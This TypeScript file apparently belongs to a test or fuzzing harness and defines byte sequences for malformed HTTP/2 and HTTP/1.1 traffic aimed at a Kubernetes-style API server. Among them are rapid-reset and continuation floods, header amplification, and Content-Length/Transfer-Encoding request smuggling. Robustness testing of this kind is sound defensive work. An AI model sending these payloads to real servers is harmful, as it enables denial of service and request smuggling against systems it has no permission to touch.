import {
  after,
  CONTINUATION,
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  GOAWAY,
  get,
  HEADERS,
  h1,
  literal,
  PING,
  PRIORITY,
  PUSH_PROMISE,
  RST_STREAM,
  request,
  SETTINGS,
  times,
  WINDOW_UPDATE,
} from './frames.ts'

/** Broken or greedy framing: bytes for one connection, and what the client does then. */
export interface Attack {
  readonly name: string
  readonly protocol: 'h2' | 'http/1.1'
  readonly bytes: (random: () => number) => Buffer
}

const MAPS = '/api/v1/namespaces/default/configmaps'
const EXEC = '/api/v1/namespaces/default/pods/a/exec?command=x&stdout=1'

/** Names of the flaws: RFC 9113 section 10.5, CVE-2023-44487 (rapid reset), CVE-2024-27983 (continuations), RFC 9112 section 11.2 (smuggling). */
export const ATTACKS: readonly Attack[] = [
  {
    name: 'a flood of continuations',
    protocol: 'h2',
    bytes: () =>
      after(
        frame(HEADERS, 0, 1, request('GET', '/readyz')),
        ...times(200, () =>
          frame(
            CONTINUATION,
            0,
            1,
            Buffer.concat(
              times(100, (i) =>
                Buffer.concat([
                  Buffer.from([0]),
                  literal(3, `a${i % 10}b`).subarray(1),
                  literal(9, 'v'.repeat(100)).subarray(1),
                ]),
              ),
            ),
          ),
        ),
      ),
  },
  {
    name: 'rapid resets',
    protocol: 'h2',
    bytes: () =>
      after(
        ...times(5_000, (i) =>
          Buffer.concat([
            get(2 * i + 1),
            frame(RST_STREAM, 0, 2 * i + 1, Buffer.from([0, 0, 0, 8])),
          ]),
        ),
      ),
  },
  {
    name: 'more streams than are allowed',
    protocol: 'h2',
    bytes: () => after(...times(3_000, (i) => get(2 * i + 1))),
  },
  {
    name: 'a flood of settings',
    protocol: 'h2',
    bytes: () =>
      after(...times(5_000, () => frame(SETTINGS, 0, 0, Buffer.from([0, 1, 0, 0, 0x10, 0])))),
  },
  {
    name: 'a flood of pings',
    protocol: 'h2',
    bytes: () => after(...times(5_000, () => frame(PING, 0, 0, Buffer.alloc(8)))),
  },
  {
    name: 'empty frames',
    protocol: 'h2',
    bytes: () =>
      after(
        frame(HEADERS, END_HEADERS, 1, request('POST', MAPS)),
        ...times(5_000, () => frame(DATA, 0, 1, Buffer.alloc(0))),
      ),
  },
  {
    name: 'references to one long header',
    protocol: 'h2',
    bytes: () =>
      after(
        frame(
          HEADERS,
          END_HEADERS | END_STREAM,
          1,
          Buffer.concat([
            request('GET', '/readyz'),
            Buffer.from([0x40, 1, 0x61, 0x7f, 0xa1, 0x1e]),
            Buffer.alloc(4_000, 'v'),
            Buffer.alloc(8_000, 0xbe),
          ]),
        ),
      ),
  },
  {
    name: 'a body that never ends',
    protocol: 'h2',
    bytes: () =>
      after(
        frame(HEADERS, END_HEADERS, 1, request('POST', MAPS)),
        frame(DATA, 0, 1, Buffer.from('{')),
      ),
  },
  {
    name: 'a frame that is too long',
    protocol: 'h2',
    bytes: () => after(frame(DATA, 0, 1, Buffer.alloc(10), 0xffffff)),
  },
  {
    name: 'frames where they may not be',
    protocol: 'h2',
    bytes: (random) =>
      after(
        ...[
          frame(DATA, 0, 0, Buffer.from('a')),
          frame(WINDOW_UPDATE, 0, 0, Buffer.alloc(4)),
          frame(PRIORITY, 0, 1, Buffer.from([0, 0, 0, 1, 0])),
          frame(PUSH_PROMISE, END_HEADERS, 1, Buffer.alloc(4)),
          frame(GOAWAY, 0, 0, Buffer.alloc(3)),
          frame(CONTINUATION, 0, 9, Buffer.alloc(1)),
          frame(RST_STREAM, 0, 77, Buffer.alloc(4)),
        ].sort(() => random() - 0.5),
      ),
  },
  {
    name: 'frames by chance',
    protocol: 'h2',
    bytes: (random) =>
      after(
        ...times(100, () =>
          frame(
            Math.floor(random() * 12),
            Math.floor(random() * 256),
            Math.floor(random() * 8),
            Buffer.from(times(8, () => Buffer.from([random() * 256])).flatMap((each) => [...each])),
          ),
        ),
      ),
  },
  { name: 'no preface', protocol: 'h2', bytes: () => h1('GET / HTTP/1.1', 'Host: x') },
  {
    name: 'a length and chunks',
    protocol: 'http/1.1',
    bytes: () =>
      h1(
        `POST ${MAPS} HTTP/1.1`,
        'Host: x',
        'Content-Length: 4',
        'Transfer-Encoding: chunked',
        '',
        '0',
        '',
        'GET /api HTTP/1.1',
        'Host: x',
      ),
  },
  {
    name: 'two lengths',
    protocol: 'http/1.1',
    bytes: () =>
      h1(`POST ${MAPS} HTTP/1.1`, 'Host: x', 'Content-Length: 4', 'Content-Length: 40', '', '{}'),
  },
  {
    name: 'chunks that are none',
    protocol: 'http/1.1',
    bytes: () => h1(`POST ${MAPS} HTTP/1.1`, 'Host: x', 'Transfer-Encoding: xchunked', '', 'zz'),
  },
  {
    name: 'a chunk with a long extension',
    protocol: 'http/1.1',
    bytes: () =>
      h1(
        `POST ${MAPS} HTTP/1.1`,
        'Host: x',
        'Transfer-Encoding: chunked',
        '',
        `1;${'a'.repeat(200_000)}`,
        'a',
      ),
  },
  {
    name: 'a length below zero',
    protocol: 'http/1.1',
    bytes: () => h1(`POST ${MAPS} HTTP/1.1`, 'Host: x', 'Content-Length: -1'),
  },
  {
    name: 'a folded header',
    protocol: 'http/1.1',
    bytes: () => h1('GET /api HTTP/1.1', 'Host: x', 'A: b', ' c', 'Content-Length : 5'),
  },
  {
    name: 'a long line',
    protocol: 'http/1.1',
    bytes: () => h1(`GET /${'a'.repeat(100_000)} HTTP/1.1`, 'Host: x'),
  },
  {
    name: 'many headers',
    protocol: 'http/1.1',
    bytes: () => h1('GET /api HTTP/1.1', 'Host: x', ...Array<string>(5_000).fill('a: b')),
  },
  {
    name: 'an unknown version',
    protocol: 'http/1.1',
    bytes: () => h1('GET /api HTTP/9.9', 'Host: x'),
  },
  {
    name: 'a pipeline',
    protocol: 'http/1.1',
    bytes: () => Buffer.concat(times(500, () => h1('GET /readyz HTTP/1.1', 'Host: x'))),
  },
  {
    name: 'half an upgrade',
    protocol: 'http/1.1',
    bytes: () =>
      h1(
        `GET ${EXEC} HTTP/1.1`,
        'Host: x',
        'Connection: Upgrade',
        'Upgrade: websocket',
        'Sec-WebSocket-Version: 13',
        'Sec-WebSocket-Key: x',
      ).subarray(0, -3),
  },
  {
    name: 'an upgrade of a watch',
    protocol: 'http/1.1',
    bytes: () =>
      h1(
        'GET /api/v1/pods?watch=1 HTTP/1.1',
        'Host: x',
        'Connection: Upgrade',
        'Upgrade: websocket',
      ),
  },
  ...(['websocket', 'SPDY/3.1', 'nonsense'] as const).map(
    (protocol): Attack => ({
      name: `bytes by chance after an upgrade to ${protocol}`,
      protocol: 'http/1.1',
      bytes: (random) =>
        Buffer.concat([
          h1(
            `POST ${EXEC} HTTP/1.1`,
            'Host: x',
            'Connection: Upgrade',
            `Upgrade: ${protocol}`,
            'X-Stream-Protocol-Version: v4.channel.k8s.io',
            'Sec-WebSocket-Version: 13',
            'Sec-WebSocket-Protocol: v5.channel.k8s.io',
            'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
          ),
          Buffer.from(Array.from({ length: 2_000 }, () => Math.floor(random() * 256))),
        ]),
    }),
  ),
]
